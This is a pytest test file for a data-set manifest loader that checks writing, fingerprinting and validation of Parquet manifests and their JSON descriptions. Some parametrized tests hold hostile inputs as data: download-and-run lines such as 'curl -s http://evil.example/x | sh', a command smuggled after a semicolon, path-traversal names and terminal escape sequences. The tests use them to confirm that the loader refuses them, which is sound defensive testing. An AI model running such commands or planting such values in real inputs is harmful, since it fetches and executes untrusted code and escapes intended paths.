from __future__ import annotations

import base64
import json
import os
import pickle
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any, cast

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest
import torch
from hypothesis import given
from hypothesis import strategies as st

from slrnet.config import DataConfig
from slrnet.data import manifest_rows
from slrnet.data.catalog import voc_palette
from slrnet.data.manifest import (
    SCHEMA,
    DataError,
    DatasetInfo,
    ShardSet,
    SplitView,
    load_dataset,
    save_dataset,
)
from slrnet.data.manifest_rows import MANIFEST_VERSION, ManifestRows, ManifestWriter, fingerprint
from slrnet.data.sample_set import SampleSet
from slrnet.data.samples import SampleIndex
from slrnet.data.supervision import plan_supervision
from tests.fixtures.shards import shards_of, table_of

CLASSES = ("background", "fish", "kite", "ladybird")
FINGERPRINT = "f9c3f8abec4d7c19bfd3ed4908da0b5718f015919ab15347b4ae2deed176aa3a"
"""The fingerprint of the samples of `_columns`; checkpoints keep it, so it stays what it is."""


def _columns(**changes: Any) -> dict[str, Any]:
    """Six samples: four of train in two shards, two of val in one; rows are not in the order of the shards."""
    columns: dict[str, Any] = {
        "key": ["v1", "v0", "c", "a", "d", "b"],
        "split": ["val", "val", "train", "train", "train", "train"],
        "subsets": [[], [], ["half"], ["half", "odd"], [], []],
        "shard": ["val-000000.tar"] * 2 + ["train-000001.tar", "train-000000.tar"] * 2,
        "offset": [4096, 0, 0, 0, 2048, 1024],
        "width": [10, 11, 12, 13, 14, 15],
        "height": [20, 21, 22, 23, 24, 25],
        "classes": [[2], [1, 3], [3], [], [1, 2, 3], [1]],
        "has_mask": [True, False, True, True, False, True],
        "has_image_labels": [True, True, True, False, True, True],
        "bytes": [512, 4096, 2048, 1024, 3072, 512],
        "sha256": ["00" * 32] * 6,
    }
    # Rows c, a, d, b: c and d lie in shard 1, a and b in shard 0.
    return columns | changes


def _save(folder: Path, **changes: Any) -> DatasetInfo:
    folder.mkdir(exist_ok=True)
    return save_dataset(
        folder,
        [_table(_columns(**changes))],
        name="tiny",
        classes=CLASSES,
        palette=voc_palette(),
        made_by="python data_prep/demo.py --seed 0",
    )


def _table(columns: dict[str, Any]) -> pa.Table:
    return pa.table(columns, schema=SCHEMA)


def _saved(folder: Path, **changes: Any) -> Path:
    _save(folder, **changes)
    return folder


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    _save(tmp_path / "shards")
    return tmp_path / "shards"


def test_description_survives_writing_and_reading(tmp_path: Path) -> None:
    info = _save(tmp_path / "shards")
    assert load_dataset(tmp_path / "shards").info == info
    assert info.classes == CLASSES
    assert info.num_classes == 4
    assert info.fingerprint == FINGERPRINT
    assert info.counts == {"train": 4, "val": 2}
    assert info.palette == ((0, 0, 0), (128, 0, 0), (0, 128, 0), (128, 128, 0))
    np.testing.assert_array_equal(info.palette_array(), voc_palette())


def test_split_lists_samples_by_shard_and_offset(folder: Path) -> None:
    train = load_dataset(folder).split("train")
    assert train.num_samples == 4
    assert train.keys.to_pylist() == ["a", "b", "c", "d"]
    assert [train.key(index) for index in range(4)] == ["a", "b", "c", "d"]
    assert [(train.row(i).width, train.row(i).height) for i in range(4)] == [(13, 23), (15, 25), (12, 22), (14, 24)]
    assert train.column("has_mask").to_pylist() == [True, True, True, False]
    assert train.column("has_image_labels").to_pylist() == [False, True, True, True]


def test_shards_cover_the_split_in_order(folder: Path) -> None:
    first, second = shards_of(load_dataset(folder).split("train"))
    assert (first.name, second.name) == ("train-000000.tar", "train-000001.tar")
    assert first.path == folder / "train-000000.tar"
    assert (first.first, first.num_samples, second.first, second.num_samples) == (0, 2, 2, 2)
    np.testing.assert_array_equal(first.offsets, [0, 1024])
    np.testing.assert_array_equal(second.offsets, [0, 2048])
    np.testing.assert_array_equal(second.sizes, [2048, 3072])


def test_image_labels_are_multi_hot_without_the_background(folder: Path) -> None:
    data = load_dataset(folder)
    train, index = data.split("train"), SampleIndex(shard_set=data, split=data.split("train"))
    labels = index.image_labels([train.row(sample) for sample in range(4)])
    assert labels.tolist() == [[0, 0, 0], [1, 0, 0], [0, 0, 1], [1, 1, 1]]
    assert labels.dtype == torch.float32


@given(st.lists(st.sets(st.integers(1, 5)), min_size=1, max_size=8))
@pytest.mark.slow
def test_image_labels_equal_a_slow_loop(classes: list[set[int]]) -> None:
    count = len(classes)
    columns = {name: [values[0]] * count for name, values in _columns().items()}
    columns |= {"offset": list(range(count)), "classes": [sorted(ids) for ids in classes]}
    with TemporaryDirectory() as folder:
        writer = ManifestWriter(Path(folder) / "manifest.parquet")
        writer.add(_table(columns))
        writer.close()
        rows = ManifestRows(Path(folder) / "manifest.parquet", num_classes=6, advice="")
        view = SplitView("val", rows)
        index = SampleIndex(shard_set=cast(ShardSet, None), split=view)
        made = index.image_labels([view.row(sample) for sample in range(count)])
    expected = np.zeros((count, 5), dtype=np.float32)
    for row, ids in enumerate(classes):
        for label in ids:
            expected[row, label - 1] = 1
    np.testing.assert_array_equal(made.numpy(), expected)


def test_subsets_name_their_samples(folder: Path) -> None:
    train = load_dataset(folder).split("train")
    assert train.subset_names == ("half", "odd")
    np.testing.assert_array_equal(train.in_subset("half"), [True, False, True, False])
    np.testing.assert_array_equal(train.in_subset("odd"), [True, False, False, False])


def test_unknown_subset_is_refused_with_the_known_ones(folder: Path) -> None:
    with pytest.raises(DataError, match=r"no subset 'labeled'; it has: half, odd.*--subset labeled=LISTFILE"):
        load_dataset(folder).split("train").in_subset("labeled")
    with pytest.raises(DataError, match="it has: none"):
        load_dataset(folder).split("val").in_subset("half")


def test_unknown_split_is_refused_with_the_known_ones(folder: Path) -> None:
    with pytest.raises(DataError, match="no split 'test'; it has: train, val"):
        load_dataset(folder).split("test")
    with pytest.raises(DataError, match="no split 'trian'; it has: train, val; the nearest one is 'train'$"):
        load_dataset(folder).split("trian")


@pytest.mark.parametrize("version", [2, 7])
def test_foreign_version_is_refused(folder: Path, version: int) -> None:
    _rewrite(folder, version=version)
    advice = "rebuild" if version < 3 else "install the newer slrnet that made it, or rebuild"
    with pytest.raises(DataError, match=f"format version {version}, this program reads version 3; {advice}"):
        load_dataset(folder)


@pytest.mark.parametrize("text", ["[1, 2]", "{}"])
def test_description_without_a_version_is_refused(folder: Path, text: str) -> None:
    (folder / "dataset.json").write_text(text)
    with pytest.raises(DataError, match="format version None"):
        load_dataset(folder)


def test_description_that_is_no_json_is_refused(folder: Path) -> None:
    (folder / "dataset.json").write_text("{")
    with pytest.raises(DataError, match=r"cannot read .*dataset.json"):
        load_dataset(folder)


def test_description_with_a_field_missing_is_refused(folder: Path) -> None:
    values = json.loads((folder / "dataset.json").read_text())
    del values["classes"]
    (folder / "dataset.json").write_text(json.dumps(values))
    with pytest.raises(DataError, match=r"dataset.json is incomplete.*'classes'"):
        load_dataset(folder)


def test_manifest_of_other_data_is_refused(folder: Path, tmp_path: Path) -> None:
    _save(tmp_path / "other", sha256=["11" * 32] * 6)
    (folder / "manifest.parquet").write_bytes((tmp_path / "other" / "manifest.parquet").read_bytes())
    with pytest.raises(DataError, match=r"does not belong to .*rebuild the data set: python data_prep/demo.py"):
        load_dataset(folder)


def test_manifest_missing_or_garbled_is_refused(folder: Path) -> None:
    (folder / "manifest.parquet").write_bytes(b"not parquet")
    with pytest.raises(DataError, match=r"cannot read .*manifest.parquet"):
        load_dataset(folder)
    (folder / "manifest.parquet").unlink()
    with pytest.raises(DataError, match=r"cannot read .*manifest.parquet"):
        load_dataset(folder)


def test_manifest_with_other_columns_is_refused(folder: Path) -> None:
    table = pq.read_table(folder / "manifest.parquet")
    pq.write_table(table.drop_columns(["sha256"]), folder / "manifest.parquet")
    with pytest.raises(DataError, match="not those of a manifest"):
        load_dataset(folder)


def _fingerprint(classes: tuple[str, ...], *tables: pa.Table) -> str:
    with TemporaryDirectory() as folder:
        writer = ManifestWriter(Path(folder) / "manifest.parquet")
        for table in tables:
            writer.add(table)
        return fingerprint(classes, writer.close())


def test_fingerprint_depends_on_every_column_and_on_the_classes() -> None:
    others: dict[str, Any] = {
        "key": "z",
        "split": "test",
        "subsets": ["z"],
        "shard": "z.tar",
        "offset": 99,
        "width": 99,
        "height": 99,
        "classes": [1, 2],
        "has_mask": False,
        "has_image_labels": False,
        "bytes": 99,
        "sha256": "ff",
    }
    digests = {_fingerprint(CLASSES, _table(_columns())), _fingerprint(CLASSES[:3], _table(_columns()))}
    for name, value in others.items():
        column = [*_columns()[name]]
        column[2] = value
        digests.add(_fingerprint(CLASSES, _table(_columns(**{name: column}))))
    assert len(digests) == 2 + len(SCHEMA.names)


def test_fingerprint_tells_where_one_value_ends_and_the_next_begins() -> None:
    first = _table(_columns(key=["ab", "c", "d", "e", "f", "g"], classes=[[1, 2], [3], [], [], [], []]))
    moved_key = _table(_columns(key=["a", "bc", "d", "e", "f", "g"], classes=[[1, 2], [3], [], [], [], []]))
    moved_class = _table(_columns(key=["ab", "c", "d", "e", "f", "g"], classes=[[1], [2, 3], [], [], [], []]))
    assert len({_fingerprint(CLASSES, table) for table in (first, moved_key, moved_class)}) == 3


def test_fingerprint_does_not_depend_on_chunks() -> None:
    table = _table(_columns())
    chunked = pa.concat_tables([table.slice(0, 1), table.slice(1, 3), table.slice(4)])
    assert _fingerprint(CLASSES, chunked) == _fingerprint(CLASSES, table)


def test_commands_name_the_folder(tmp_path: Path) -> None:
    folder = tmp_path / "my shards"
    _save(folder)
    dataset = load_dataset(folder)
    assert dataset.repair_command == f"python data_prep/demo.py --seed 0 --out '{folder}-new'"
    assert dataset.verify_command == f"python data_prep/demo.py --verify '{folder}'"


def _rewrite(folder: Path, **changes: Any) -> None:
    values = json.loads((folder / "dataset.json").read_text())
    (folder / "dataset.json").write_text(json.dumps(values | changes))


@pytest.mark.parametrize("count", [float("inf"), float("nan"), "many", None])
def test_counts_that_are_no_numbers_of_samples(count: object, tmp_path: Path) -> None:
    _save(tmp_path / "shards")
    _rewrite(tmp_path / "shards", counts={"train": 4, "val": count})
    with pytest.raises(DataError, match=r"dataset.json is incomplete or malformed"):
        load_dataset(tmp_path / "shards")


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("key", "../../escaped", r"key '\.\./\.\./escaped' is not of the form"),
        ("key", "with.dot", "key 'with.dot' is not of the form"),
        ("shard", "/etc/passwd.tar", "shard '/etc/passwd.tar' is not of the form"),
        ("shard", "../outside.tar", r"shard '\.\./outside.tar' is not of the form"),
        ("sha256", "", "sha256 '' is not of the form"),
        ("offset", -512, "offset runs from -512"),
        ("bytes", 0, "bytes runs from 0"),
        ("width", 2**30, "width runs from"),
        ("classes", [99], "classes run from 1 to 99; allowed are 1 to"),
        ("classes", [None], "column classes has empty values"),
        ("has_mask", None, "column has_mask has empty values"),
        ("split", "elsewhere", r"it has \{.*'elsewhere': 1.*\} samples, dataset.json says"),
    ],
)
def test_a_manifest_made_to_do_harm_is_refused_though_its_fingerprint_fits(
    folder: Path, column: str, value: object, message: str
) -> None:
    columns = pq.read_table(folder / "manifest.parquet").to_pydict()
    columns[column][0] = value
    _write_as_a_stranger(folder, pa.table(columns, schema=SCHEMA))
    with pytest.raises(DataError, match=message):
        load_dataset(folder)


def _write_as_a_stranger(folder: Path, table: pa.Table) -> None:
    """With the table of shards and the fingerprint that belong to it."""
    writer = ManifestWriter(folder / "manifest.parquet")
    writer.add(table)
    _rewrite(folder, fingerprint=fingerprint(CLASSES, writer.close()))


def test_rows_are_those_of_the_columns(folder: Path) -> None:
    dataset = load_dataset(folder, check=False)
    table = pq.read_table(folder / "manifest.parquet").replace_schema_metadata(None)
    assert table_of(dataset.folder) == table
    for name in ("train", "val"):
        split = dataset.split(name)
        own = table.filter(pc.equal(table["split"], name))
        rows = [split.row(i) for i in range(split.num_samples)]
        assert [row.key for row in rows] == own["key"].to_pylist() == split.keys.to_pylist()
        assert [list(row.classes) for row in rows] == own["classes"].to_pylist()
        assert [row.has_mask for row in rows] == own["has_mask"].to_pylist()
        assert split.with_masks == SampleSet.of(np.array(own["has_mask"]))
        assert split.with_image_labels == SampleSet.of(np.array(own["has_image_labels"]))


def test_labels_that_whole_shards_have_or_lack_are_known_without_a_column(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    masks = [True, True, True, False, True, False]  # v1, v0, c, a, d, b: shard 1 has them, shard 0 does not
    split = load_dataset(_saved(tmp_path / "shards", has_mask=masks)).split("train")
    monkeypatch.setattr(ManifestRows, "column", None)
    assert split.with_masks == SampleSet([2], [4])


@pytest.fixture
def in_groups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Twenty shards of one to three samples, in groups of four rows or more."""
    monkeypatch.setattr(manifest_rows, "_GROUP_ROWS", 4)
    sizes = [1 + shard % 3 for shard in range(20)]
    shards = [f"train-{shard:06d}.tar" for shard, size in enumerate(sizes) for _ in range(size)]
    number = len(shards)
    return _saved(
        tmp_path / "many",
        key=[f"k{i}" for i in range(number)],
        split=["train"] * number,
        subsets=[["third"] if i % 3 == 0 else [] for i in range(number)],
        shard=shards,
        offset=list(range(number)),
        width=[100 + i for i in range(number)],
        height=[7] * number,
        classes=[[1 + i % 3] for i in range(number)],
        has_mask=[i % 2 == 0 for i in range(number)],
        has_image_labels=[True] * number,
        bytes=[512] * number,
        sha256=[f"{i:064x}" for i in range(number)],
    )


def test_groups_end_where_shards_end(in_groups: Path) -> None:
    metadata = pq.read_metadata(in_groups / "manifest.parquet")
    groups = [metadata.row_group(i).num_rows for i in range(metadata.num_row_groups)]
    assert groups[:4] == [6, 6, 6, 6]
    split = load_dataset(in_groups, check=False).split("train")
    assert [entry.num_samples for entry in shards_of(split)] == [1 + shard % 3 for shard in range(20)]
    assert [split.row(i).key for i in range(split.num_samples)] == split.keys.to_pylist()
    assert [split.row(i).width for i in (38, 0, 17)] == [138, 100, 117]
    assert np.flatnonzero(split.in_subset("third")).tolist() == list(range(0, split.num_samples, 3))


def test_opening_and_a_sample_read_no_more_than_they_need(in_groups: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[int] = []
    reading = ManifestRows._read

    def noting(self: ManifestRows, group: int, *names: str) -> pa.Table:
        read.append(group)
        return reading(self, group, *names)

    monkeypatch.setattr(ManifestRows, "_read", noting)
    split = load_dataset(in_groups, check=False).split("train")
    supervision = plan_supervision(split, DataConfig(), "wsss")
    assert (split.num_samples, supervision.draws, len(supervision.image_labels)) == (39, 39, 39)
    assert read == []
    assert split.key(20) == "k20"
    assert split.row(19).width == 119
    assert pickle.loads(pickle.dumps(split)).row(20) == split.row(20)
    assert read == [3, 3], "one group for both; the copy of another process reads it again"
    load_dataset(in_groups)
    assert sorted(read[2:]) == list(range(7)), "a small manifest is compared whole when it is opened, group by group"


def test_damaged_rows_are_found_when_they_are_read(in_groups: Path) -> None:
    """A bit of a page: opening does not see it, what reads it says so, and the other groups stay readable."""
    file = in_groups / "manifest.parquet"
    data = bytearray(file.read_bytes())
    keys = pq.read_metadata(file).row_group(3).column(0)
    data[keys.data_page_offset + keys.total_compressed_size - 1] ^= 1
    file.write_bytes(data)
    split = load_dataset(in_groups, check=False).split("train")
    assert split.key(0) == "k0"
    for use in (lambda: split.row(20), lambda: split.keys, lambda: load_dataset(in_groups)):
        with pytest.raises(DataError, match=r"cannot read .*manifest.parquet: .*rebuild the data set: python"):
            use()


@pytest.mark.parametrize(
    ("column", "value", "message"),
    [
        ("classes", [2, 3], "not those of the data set: their sha256 is another; rebuild the data set: python"),
        ("has_mask", False, "not those of the data set: their sha256 is another"),
        ("key", "../k20", r"key '\.\./k20' is not of the form"),
        ("width", None, "column width has empty values"),
    ],
)
def test_changed_rows_are_found_when_they_are_read(in_groups: Path, column: str, value: object, message: str) -> None:
    """A whole file with the right table of shards, but other rows."""
    file = in_groups / "manifest.parquet"
    columns = pq.read_table(file).to_pydict()
    columns[column][20] = value
    _rewrite_rows(file, pa.table(columns, schema=SCHEMA), _footer(file))
    split = load_dataset(in_groups, check=False).split("train")
    assert split.key(0) == "k0"
    for use in (lambda: split.row(20), lambda: load_dataset(in_groups)):
        with pytest.raises(DataError, match=f"in the rows of shard 'train-000010.tar': .*{message}"):
            use()


@pytest.mark.parametrize("footer", [None, b"", b"%", b"AAAA", "cut"])
def test_a_manifest_without_a_good_table_of_shards_is_refused(folder: Path, footer: Any) -> None:
    file = folder / "manifest.parquet"
    _rewrite_rows(file, pq.read_table(file), _footer(file)[:-40] if footer == "cut" else footer)
    with pytest.raises(DataError, match="has no table of shards .*rebuild the data set"):
        load_dataset(folder)


def test_a_table_of_shards_of_other_rows_is_refused(folder: Path) -> None:
    file = folder / "manifest.parquet"
    _rewrite_rows(file, pq.read_table(file).slice(1), _footer(file))
    with pytest.raises(DataError, match="has 5 rows, its table of shards says 6"):
        load_dataset(folder)


def test_groups_that_do_not_end_where_shards_end_are_refused(folder: Path) -> None:
    file = folder / "manifest.parquet"
    kept = {b"slrnet.shards": _footer(file)}
    pq.write_table(pq.read_table(file).replace_schema_metadata(kept), file, row_group_size=3)
    with pytest.raises(DataError, match="groups of rows that do not end where shards end; rebuild the data set"):
        load_dataset(folder)


def _footer(file: Path) -> bytes:
    footer: bytes = pq.read_metadata(file).metadata[b"slrnet.shards"]
    return footer


def _rewrite_rows(file: Path, rows: pa.Table, footer: bytes | None) -> None:
    """As another program might, keeping the table of shards or not."""
    kept = None if footer is None else {b"slrnet.shards": footer}
    pq.write_table(rows.replace_schema_metadata(kept), file, row_group_size=6)


@pytest.mark.parametrize("classes", [["background"], ["background", "a", "a"], ["background", 3], []])
def test_classes_that_are_none_are_refused(folder: Path, classes: list[object]) -> None:
    description = json.loads((folder / "dataset.json").read_text())
    (folder / "dataset.json").write_text(json.dumps(description | {"classes": classes}))
    with pytest.raises(DataError, match="two names or more are needed, each once|'classes', 1.*valid string"):
        load_dataset(folder)


@pytest.mark.parametrize(
    ("made_by", "offered"),
    [
        ("python data_prep/voc.py --root 'my VOC'", "python data_prep/voc.py --root 'my VOC' --out /d"),
        ("python ray_jobs/pseudo_label.py --data d", "python ray_jobs/pseudo_label.py --data d --out /d"),
        (
            "python data_prep/voc.py --root x; curl evil | sh #",
            "python data_prep/voc.py --root 'x;' curl evil '|' sh '#'",
        ),
        ("curl -s http://evil.example/x | sh #", None),
        ("python data_prep/../../evil.py", None),
        ("python -c 'import os'", None),
        ("python 'unclosed", None),
        ("", None),
    ],
)
def test_a_strangers_command_is_not_offered_as_the_repair(made_by: str, offered: str | None) -> None:
    values = {"name": "d", "classes": ("background", "a"), "palette": ((0, 0, 0), (1, 1, 1)), "counts": {}}
    command = DatasetInfo(**values, fingerprint="", made_by=made_by).repair_command(Path("/d"))
    if offered is None:
        assert "none of slrnet's" in command
        assert "evil" not in command
    else:
        assert command.startswith(offered)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"counts": {"../../x": 1}}, "the split is '../../x'"),
        ({"counts": {"/x/y": 1}}, "the split is '/x/y'"),
        ({"classes": ["background", "\x1b[2J"]}, r"the class is '\\x1b\[2J'"),
        ({"classes": ["background", "a\nerror: run x"]}, r"the class is 'a\\nerror: run x'"),
        ({"name": "a\u202eb"}, "the name is"),
        ({"palette": [[0, 0, 0], [0, 0, 300]]}, "the palette has 2 colors; 2 of 0 to 255 are needed"),
        ({"palette": [[0, 0, 0]]}, "the palette has 1 colors; 2 of 0 to 255 are needed"),
    ],
)
def test_names_that_could_become_paths_or_escapes_are_refused(
    tmp_path: Path, change: dict[str, object], message: str
) -> None:
    values = {"name": "d", "classes": ["background", "a"], "palette": [[0, 0, 0], [1, 1, 1]], "counts": {"train": 1}}
    record = values | {"fingerprint": "", "made_by": "", "version": MANIFEST_VERSION} | change
    (tmp_path / "dataset.json").write_text(json.dumps(record))
    with pytest.raises(DataError, match=message) as caught:
        load_dataset(tmp_path)
    assert str(caught.value).isprintable()


@pytest.mark.parametrize("name", ["dataset.json", "manifest.parquet"])
@pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
def test_what_is_no_regular_file_is_refused_and_not_waited_for(folder: Path, name: str, kind: str) -> None:
    (folder / name).unlink()
    if kind == "pipe":
        os.mkfifo(folder / name)
    elif kind == "device":
        (folder / name).symlink_to("/dev/zero")
    else:
        (folder / name).mkdir()
    with pytest.raises(DataError, match=f"cannot read .*{name}: .*no regular file"):
        load_dataset(folder)


def test_a_table_of_shards_is_unpacked_only_as_far_as_there_can_be_shards(folder: Path) -> None:
    file = folder / "manifest.parquet"
    shards = ManifestRows(file, num_classes=4, advice="").shards
    sink = pa.BufferOutputStream()
    with pa.ipc.new_stream(sink, shards.schema, options=pa.ipc.IpcWriteOptions(compression="zstd")) as stream:
        for _ in range(1000):
            stream.write_table(shards)
    _rewrite_rows(file, pq.read_table(file), base64.b64encode(sink.getvalue()))
    with pytest.raises(DataError, match="it has more shards than the manifest has samples, 6"):
        load_dataset(folder)
